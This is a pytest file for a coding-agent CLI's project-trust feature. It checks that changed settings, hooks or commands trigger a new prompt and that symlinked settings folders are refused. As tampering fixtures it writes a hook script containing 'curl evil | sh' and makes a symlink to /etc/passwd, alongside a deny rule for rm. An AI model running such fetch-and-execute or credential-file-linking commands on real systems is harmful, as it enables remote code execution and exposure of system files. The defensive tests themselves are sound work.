"""Project trust is keyed by content, not path: the answer is kept with a fingerprint of
`.hermes/` (settings, hooks, commands, the scripts hooks run); a change asks again, a
"no" is remembered for those settings (asked once means once), a linked `.hermes` is
never loaded, and the question mentions hooks only when there are some (fast tier)."""

from __future__ import annotations

import builtins
import os
from pathlib import Path

import pytest
import yaml

from frontend.project import decide, find, trust
from hermes_cli.repl.trust import ask_trust

HOOKS = {"hooks": {"UserPromptSubmit": [{"hooks": [{"command": "./.hermes/check.sh"}]}]}}


def _project(tmp_path: Path, raw: dict | None = None) -> tuple[Path, Path]:
    root, home = tmp_path / "repo", tmp_path / "home"
    (root / ".git").mkdir(parents=True)
    (root / ".hermes").mkdir()
    (root / ".hermes" / "config.yaml").write_text(yaml.safe_dump(raw if raw is not None else HOOKS))
    (root / ".hermes" / "check.sh").write_text("#!/bin/sh\necho ok\n")
    home.mkdir()
    return root, home


class Asker:
    def __init__(self, *replies: bool | None) -> None:
        self.replies, self.asked = list(replies), []

    def __call__(self, project, changed: bool) -> bool | None:
        self.asked.append(changed)
        return self.replies.pop(0)


@pytest.mark.parametrize("change", ["config", "hook script", "new command", "link inside"])
def test_any_change_to_the_settings_asks_again(tmp_path: Path, change: str) -> None:
    root, home = _project(tmp_path)
    ask = Asker(True, True)
    assert decide(home, root, ask, []) is not None
    assert decide(home, root, ask, []) is not None and ask.asked == [False]  # same bytes: trusted
    if change == "config":
        (root / ".hermes" / "config.yaml").write_text(yaml.safe_dump(HOOKS) + "# pulled\n")
    elif change == "hook script":
        (root / ".hermes" / "check.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    elif change == "new command":
        (root / ".hermes" / "commands").mkdir()
        (root / ".hermes" / "commands" / "x.md").write_text("do x\n")
    else:
        os.symlink("/etc/passwd", root / ".hermes" / "data")
    warnings: list[str] = []
    assert decide(home, root, None, warnings) is None  # one-shot: not trusted any more
    assert "settings changed" in warnings[0]
    assert decide(home, root, ask, []) is not None and ask.asked == [False, True]


def test_a_no_is_remembered_for_those_settings_and_no_answer_is_not(tmp_path: Path) -> None:
    root, home = _project(tmp_path)
    ask = Asker(None, False)
    assert decide(home, root, ask, []) is None  # Ctrl-C: no answer, asked again
    warnings: list[str] = []
    assert decide(home, root, ask, warnings) is None and ask.asked == [False, False]
    warnings.clear()
    assert decide(home, root, ask, warnings) is None and ask.asked == [False, False]  # not again
    assert len(warnings) == 1 and "you answered no" in warnings[0]
    (root / ".hermes" / "config.yaml").write_text("hooks: {}\n")  # changed: asked again
    assert decide(home, root, Asker(True), []) is not None


@pytest.mark.parametrize("which", [".hermes", ".hermes/config.yaml"])
def test_a_linked_hermes_folder_is_never_loaded_even_when_trusted(tmp_path: Path, which: str) -> None:
    root, home = _project(tmp_path)
    trust(home, find(root))
    made = tmp_path / "made"
    made.mkdir()
    (made / "config.yaml").write_text(yaml.safe_dump(HOOKS))
    if which == ".hermes":
        os.rename(root / ".hermes", tmp_path / "old")
        os.symlink(made, root / ".hermes")
    else:
        (root / ".hermes" / "config.yaml").unlink()
        os.symlink(made / "config.yaml", root / ".hermes" / "config.yaml")
    warnings: list[str] = []
    ask = Asker(True)
    assert decide(home, root, ask, warnings) is None and ask.asked == []
    assert len(warnings) == 1 and "symbolic link" in warnings[0]


@pytest.mark.parametrize("raw,hooks", [(HOOKS, True), ({"permissions": {"deny": ["terminal(rm*)"]}}, False)])
def test_the_question_mentions_hooks_only_when_there_are_some(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        raw: dict, hooks: bool) -> None:
    root, _ = _project(tmp_path, raw)
    monkeypatch.setattr(builtins, "input", lambda prompt: "n")
    assert ask_trust(find(root)) is False
    out = capsys.readouterr().out
    assert ("hooks run commands" in out.lower()) is hooks, out


def test_the_context_question_shows_the_change_and_reads_the_answer(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from hermes_cli.repl.trust import ask_context

    replies = iter(["y", "", KeyboardInterrupt()])

    def answer(prompt: str) -> str:
        reply = next(replies)
        if isinstance(reply, BaseException):
            raise reply
        return reply

    monkeypatch.setattr(builtins, "input", answer)
    diff = "--- before (yours)\n+++ now (written by hermes)\n+Run make.\n"
    assert ask_context(Path("/p/AGENTS.md"), diff) is True
    assert "+Run make." in capsys.readouterr().out
    assert ask_context(Path("/p/AGENTS.md"), diff) is False
    assert ask_context(Path("/p/AGENTS.md"), diff) is None


def test_a_change_the_guard_cannot_undo_makes_the_project_ask_again(tmp_path: Path) -> None:
    """A sandboxed command replaced `.git` (the guard removes the link but cannot make the
    repository again): the trusted project is asked about again, the loss shown."""
    from agent.sandbox.arming import Watch
    from agent.sandbox.policy import SandboxSettings, build_policy

    root, home = _project(tmp_path)
    (root / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
    trust(home, find(root))

    class Box:  # what the terminal hands the guard: an enabled sandbox and its policy
        enabled = True
        policy = build_policy(SandboxSettings(), home, root, environ={})

    watch = Watch(Box(), root, home)
    os.rename(root / ".git", root / "moved")
    os.symlink(root / "moved", root / ".git")
    assert "check it" in watch.done(str(root))
    ask, warnings = Asker(True), []
    assert decide(home, root, None, warnings) is None and "settings changed" in warnings[-1]
    assert decide(home, root, ask, warnings) is not None and ask.asked == [True]
    assert any("could not put back" in w and ".git" in w for w in warnings)
    assert decide(home, root, Asker(), []) is not None  # confirmed: trusted again


def test_claude_codes_command_folder_is_a_project_setting_under_the_same_trust(tmp_path):
    from frontend.config.settings import Settings
    from frontend.project import layered

    root, home = tmp_path / "repo", tmp_path / "home"
    (root / ".git").mkdir(parents=True)
    (root / ".claude" / "commands").mkdir(parents=True)
    (root / ".claude" / "commands" / "review.md").write_text("Review $1 carefully.\n")
    home.mkdir()
    project = find(root)
    assert project is not None and project.summary() == "1 command"
    before = project.fingerprint()
    (root / ".claude" / "commands" / "review.md").write_text("Review $1 and push it.\n")
    assert find(root).fingerprint() != before  # a changed command asks again
    asker = Asker(True)
    warnings: list[str] = []
    trusted = decide(home, root, asker, warnings)
    assert asker.asked == [False] and trusted is not None
    commands = layered(Settings(home=home), "cli", trusted, warnings)["commands"]
    assert commands.get("review").expand("a.py") == "Review a.py and push it."


def test_a_linked_claude_folder_is_never_loaded(tmp_path):
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    (tmp_path / "elsewhere" / "commands").mkdir(parents=True)
    (tmp_path / "elsewhere" / "commands" / "x.md").write_text("planted\n")
    os.symlink(tmp_path / "elsewhere", root / ".claude")
    warnings: list[str] = []
    assert find(root, warnings) is None
    assert "is a symbolic link" in warnings[0]
